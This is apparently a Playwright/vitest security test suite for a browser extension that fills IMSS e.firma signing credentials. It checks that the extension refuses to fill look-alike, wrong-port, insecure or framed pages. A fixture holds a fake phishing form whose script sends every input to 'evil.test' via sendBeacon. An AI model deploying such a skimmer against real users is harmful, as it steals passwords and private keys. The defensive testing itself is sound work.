import type { Page, Request } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { closePage } from '../../scripts/close-page.ts';
import { bring, openApp, pages, signInFromPopup } from '../../scripts/person.ts';
import { openPopup } from '../../scripts/popup.ts';
import { chooseSafety } from '../../scripts/prepare.ts';
import { say } from '../../scripts/say.ts';
import { setStage, type Stage } from '../../scripts/stage.ts';
import { until } from '../../scripts/worker.ts';
import { makeCredential, type Credential } from '../pki/index.ts';
import { newNonce, tabIdOf, tellWorker } from './page-api.ts';
import type { Search } from './search-bytes.ts';
import { startStrangers, type Strangers } from './strangers.ts';
import {
  causeInPopup,
  everythingIsEmpty,
  fieldsOf,
  found,
  frameAt,
  secretsOf,
  widgetUrl,
} from './widget.ts';

const login = '/buzonimss/login';
const healthy = `${pages.fill}/sana`;
const widgetPath = new URL(widgetUrl).pathname;
let strangers: Strangers;
let stage: Stage;
let person: Credential;
let secrets: Search;
let app: Page;
let page: Page;
let credentialId: string;
const requests: Request[] = [];

const within = (url: string, attributes = ''): string =>
  `<!doctype html><iframe id="formFirmaDigital" ${attributes} src="${url}"></iframe>`;

/** A form that looks like the widget's, at anybody's address. */
const lookAlike = `<!doctype html><form action="/validar" method="post" enctype="multipart/form-data">
  <input id="inputRFC" name="rfc"><input id="inputCertificado" name="certificado" type="file">
  <input id="inputKey" name="key" type="file">
  <input id="inputPassword" name="password" type="password"><button id="botonValidarCert">Ir</button>
  <script>
    // It sends whatever it gets, at once.
    document.addEventListener('input', () => {
      navigator.sendBeacon('https://evil.test/robo', new FormData(document.forms[0]));
    });
  </script></form>`;

beforeAll(async () => {
  strangers = await startStrangers([
    'evil.test',
    'old.imss.gob.mx',
    'buzon.imss.gob.mx',
    'buzon.imss.gob.mx.',
    'buzon.imss.gob.mx:8443',
    'buzon.imss.gob.mx.evil.test',
    'firmadigitalssl.imss.gob.mx.',
    'firmadigitalssl.imss.gob.mx:8443',
    'firmadigitalssl.imss.gob.mx.evil.test',
  ]);
  for (const host of [
    'buzon.imss.gob.mx.evil.test',
    'buzon.imss.gob.mx:8443',
    'buzon.imss.gob.mx.',
  ])
    strangers.serve(`https://${host}${login}`, within(widgetUrl));
  for (const host of ['.', ':8443', '.evil.test'])
    strangers.serve(`https://firmadigitalssl.imss.gob.mx${host}${widgetPath}`, lookAlike);
  for (const host of ['evil.test', 'old.imss.gob.mx'])
    strangers.serve(`https://${host}/widget`, within(widgetUrl));
  strangers.serve('https://evil.test/buzon', within(healthy));
  strangers.serve(`http://buzon.imss.gob.mx${login}`, within(widgetUrl));
  strangers.serve(healthy, within(widgetUrl));
  stage = await setStage({ headless: true, resolverRules: strangers.rules });
  strangers.secure(stage.tls);
  person = await makeCredential(stage.pki, { file: 'propia', password: newNonce(18) });
  secrets = secretsOf(person);
  await chooseSafety(stage.browser);
  app = await openApp(stage.browser, 'certificados');
  await bring(app, [person.cerPath, person.keyPath], person.password, 'use');
  const { res } = await tellWorker(app, 'listCredentials', undefined);
  [{ id: credentialId }] = res as [{ id: string }];
  stage.browser.context.on('request', (request) => requests.push(request));
});

afterAll(async () => {
  await stage.close();
  await strangers.stop();
});

beforeEach(async () => {
  page = await stage.browser.context.newPage();
});

/** Wherever the page may have put it: the fields, the strangers' servers, the widget's own. */
afterEach(async () => {
  const heard = Buffer.concat([
    ...strangers.heard.flatMap(({ url, body }) => [Buffer.from(`${url}\n`), body]),
    ...requests.flatMap((request) => [
      Buffer.from(`${request.url()}\n`),
      request.postDataBuffer() ?? Buffer.alloc(0),
    ]),
  ]);
  expect(found(secrets, heard)).toEqual([]);
  const sent = stage.replica.log.filter(
    ({ kind }) => kind === 'pair-accepted' || kind === 'refused',
  );
  expect(sent).toEqual([]);
  await closePage(page);
});

/** Asks for it all the same, as if the popup had offered it. */
async function fillAnyway(): Promise<string | undefined> {
  const tabId = await tabIdOf(stage.browser, page);
  const twin = await stage.browser.context.newPage();
  await twin.goto(healthy);
  await frameAt(twin);
  const { res } = await tellWorker(app, 'planFill', { tabId: await tabIdOf(stage.browser, twin) });
  await twin.close();
  const plan = { ...(res as object), tabId };
  const request = { plan, credentialId, password: person.password };
  const { err } = await tellWorker(app, 'fill', request);
  return err?.code;
}

async function open(url: string, form: string): Promise<void> {
  await page.goto(url);
  await frameAt(page, form);
}

test.each([
  ['at a look-alike host', `https://buzon.imss.gob.mx.evil.test${login}`],
  ['in a stranger’s page', 'https://evil.test/widget'],
  ['in a forgotten sub-domain', 'https://old.imss.gob.mx/widget'],
  ['in the portal, in a stranger’s page', 'https://evil.test/buzon'],
  ['at another port', `https://buzon.imss.gob.mx:8443${login}`],
  ['at a name with a dot at its end', `https://buzon.imss.gob.mx.${login}`],
  ['by http', `http://buzon.imss.gob.mx${login}`],
])('the widget %s: the popup offers nothing', async (_where, url) => {
  await open(url, widgetUrl);
  const popup = await openPopup(stage.browser, page);
  await popup.waitFor("document.querySelector('main')");
  expect(await popup.evaluate('document.body.innerText')).toContain(say('popup_elsewhere'));
  expect(await popup.evaluate("document.querySelector('form.approval')")).toBe(null);
  await popup.close();
  expect(await fillAnyway()).toBe('not_a_portal');
  expect(await everythingIsEmpty(page)).toBe(true);
});

test('the widget alone in a tab: the popup offers nothing', async () => {
  await page.goto(widgetUrl);
  const popup = await openPopup(stage.browser, page);
  await popup.waitFor("document.querySelector('main')");
  expect(await popup.evaluate("document.querySelector('form.approval')")).toBe(null);
  await popup.close();
  expect(await fillAnyway()).toBe('not_a_portal');
  expect(await everythingIsEmpty(page)).toBe(true);
});

const widgetAt = (host: string): string =>
  `https://firmadigitalssl.imss.gob.mx${host}${widgetPath}`;
const sandbox = 'sandbox="allow-scripts allow-forms"';

test.each<
  [what: string, cause: 'stranger_in_frames' | 'form_not_found', url: string, attributes?: string]
>([
  ['a stranger between portal and widget', 'stranger_in_frames', 'https://evil.test/widget'],
  ['a forgotten sub-domain between them', 'stranger_in_frames', 'https://old.imss.gob.mx/widget'],
  ['a widget at a look-alike host', 'form_not_found', widgetAt('.evil.test')],
  ['a widget at another port', 'form_not_found', widgetAt(':8443')],
  ['a widget at a name with a dot at its end', 'form_not_found', widgetAt('.')],
  ['a widget in a sandbox', 'form_not_found', widgetUrl, sandbox],
] as const)(
  '%s: the popup says so and has no button',
  async (_what, cause, url, attributes = '') => {
    strangers.serve(pages.fill, within(url, attributes));
    await open(pages.fill, cause === 'form_not_found' ? url : widgetUrl);
    const popup = await openPopup(stage.browser, page);
    expect(await causeInPopup(popup)).toBe(cause);
    expect(await popup.evaluate('document.body.innerText')).toContain(say(`error_${cause}`));
    expect(await popup.evaluate("document.querySelector('button.primary')")).toBe(null);
    expect(await popup.evaluate("document.querySelector('input[type=password]')")).toBe(null);
    await popup.close();
    expect(await fillAnyway()).toBe(cause);
    expect(await everythingIsEmpty(page)).toBe(true);
  },
);

test('what a stranger is given is noticed here', async () => {
  const { personAes } = stage.pki.credentials;
  await page.goto(widgetAt('.evil.test'));
  await page.fill('#inputPassword', personAes.password);
  await page.setInputFiles('#inputKey', personAes.keyPath);
  const given = secretsOf(personAes);
  await until('The stranger hears it', () => {
    const names = strangers.heard.flatMap(({ body }) => found(given, body));
    return (names.includes('password') && names.includes('.key')) || undefined;
  });
});

test('the healthy twin of them all is filled', async () => {
  await open(healthy, widgetUrl);
  const popup = await signInFromPopup(stage.browser, page);
  await popup.waitFor("document.querySelector('.done')");
  await popup.close();
  expect(await fieldsOf(await frameAt(page))).toMatchObject({
    inputRFC: person.rfc,
    inputPassword: person.password,
  });
});
